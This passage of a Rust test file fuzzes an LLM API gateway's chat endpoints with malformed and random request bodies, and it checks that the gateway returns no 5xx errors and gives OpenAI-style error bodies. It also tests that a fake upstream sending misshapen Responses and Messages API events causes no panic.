                    .prop_map(|m| Value::Object(m.into_iter().collect::<Map<_, _>>())),
            ]
        })
    }

    /// A valid body of either surface with one field replaced or added.
    fn mutated() -> impl Strategy<Value = (&'static str, Value)> {
        let fields = prop_oneof![
            Just("model"),
            Just("messages"),
            Just("stream"),
            Just("max_tokens"),
            Just("max_completion_tokens"),
            Just("temperature"),
            Just("top_p"),
            Just("n"),
            Just("stream_options"),
            Just("prompt"),
            Just("history"),
            Just("vars"),
            Just("template"),
            Just("seed"),
            Just("tools"),
        ];
        (any::<bool>(), fields, any_json()).prop_map(|(openai, field, value)| {
            let mut body = if openai {
                json!({"model": "mock", "stream": true, "max_tokens": 3,
                    "messages": [{"role": "user", "content": "Hi"}]})
            } else {
                json!({"prompt": "Hi", "model": "mock", "max_tokens": 3})
            };
            body[field] = value;
            (
                if openai {
                    "/v1/chat/completions"
                } else {
                    "/api/chat"
                },
                body,
            )
        })
    }

    fn request() -> impl Strategy<Value = (&'static str, Vec<u8>)> {
        prop_oneof![
            mutated().prop_map(|(path, body)| (path, body.to_string().into_bytes())),
            (
                prop_oneof![Just("/v1/chat/completions"), Just("/api/chat")],
                any_json()
            )
                .prop_map(|(path, body)| (path, body.to_string().into_bytes())),
            (
                prop_oneof![Just("/v1/chat/completions"), Just("/api/chat")],
                prop::collection::vec(any::<u8>(), 0..300)
            )
                .prop_map(|(path, bytes)| (path, bytes)),
        ]
    }

    #[test]
    fn malformed_and_extreme_requests_get_2xx_or_4xx_with_an_openai_error_body() {
        let runtime = tokio::runtime::Runtime::new().expect("a runtime");
        let app = runtime.block_on(TestApp::spawn_with(|c| {
            c.rpm = 1_000_000;
            c.max_streams = 1_000;
        }));
        let config = ProptestConfig {
            cases: 600,
            failure_persistence: None,
            ..ProptestConfig::default()
        };
        proptest!(config, |((path, body) in request())| {
            let (status, answer) = runtime.block_on(async {
                let response = app
                    .http
                    .post(app.url(path))
                    .header("content-type", "application/json")
                    .body(body.clone())
                    .send()
                    .await
                    .expect("an answer, not a reset");
                let status = response.status().as_u16();
                let is_json = response
                    .headers()
                    .get("content-type")
                    .is_some_and(|v| v.as_bytes().starts_with(b"application/json"));
                let bytes = tokio::time::timeout(crate::support::REPLY_DEADLINE, response.bytes())
                    .await
                    .expect("the answer ends")
                    .expect("the whole answer");
                let answer = if is_json {
                    serde_json::from_slice::<Value>(&bytes).unwrap_or(Value::Null)
                } else {
                    Value::String(String::from_utf8_lossy(&bytes).into_owned())
                };
                (status, answer)
            });
            prop_assert!(status < 500, "{status} for {path} {}: {answer}", String::from_utf8_lossy(&body));
            if status >= 400 {
                prop_assert!(super::is_error_body(&answer), "{status}: {answer}");
            }
        });
    }
}

/// A native upstream (Responses or Messages API) whose events have the right types and the
/// wrong shapes: the client gets an answer, never a panic (500).
#[tokio::test]
async fn a_native_upstream_with_misshapen_events_gets_no_panic() {
    let upstream = FakeUpstream::spawn().await;
    let base = upstream.base_url();
    let dir = std::env::temp_dir().join(format!("sluice-hostile-native-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let path = dir.join("sluice.toml");
    std::fs::write(
        &path,
        format!(
            "[models.r]\nbase_url = \"{base}\"\nmodel = \"hostile\"\napi = \"responses\"\n\n\
             [models.m]\nbase_url = \"{base}\"\nmodel = \"hostile\"\napi = \"anthropic\"\n"
        ),
    )
    .expect("config");
    let app = TestApp::in_front_of_with(&upstream, |c| c.config = Some(path)).await;
    let requests = [
        ("/v1/responses", json!({"model": "r", "input": "Hi"})),
        (
            "/v1/responses",
            json!({"model": "r", "input": "Hi", "stream": true}),
        ),
        (
            "/v1/messages",
            json!({"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": "Hi"}]}),
        ),
        (
            "/v1/messages",
            json!({"model": "m", "max_tokens": 5, "stream": true, "messages": [{"role": "user", "content": "Hi"}]}),
        ),
        (
            "/v1/chat/completions",
            json!({"model": "r", "messages": [{"role": "user", "content": "Hi"}]}),
        ),
        (
            "/v1/chat/completions",
            json!({"model": "m", "messages": [{"role": "user", "content": "Hi"}]}),
        ),
    ];
    for (path, body) in requests {
        let response = app.post(path, &body).await;
        let status = response.status().as_u16();
        let text = response.text().await.expect("a body");
        assert!(
            status != 500 && !text.contains("internal_error"),
            "{path} {body}: {status} {text}"
        );
    }
    app.wait_metric("sluice_active_streams", 0.0).await;
}
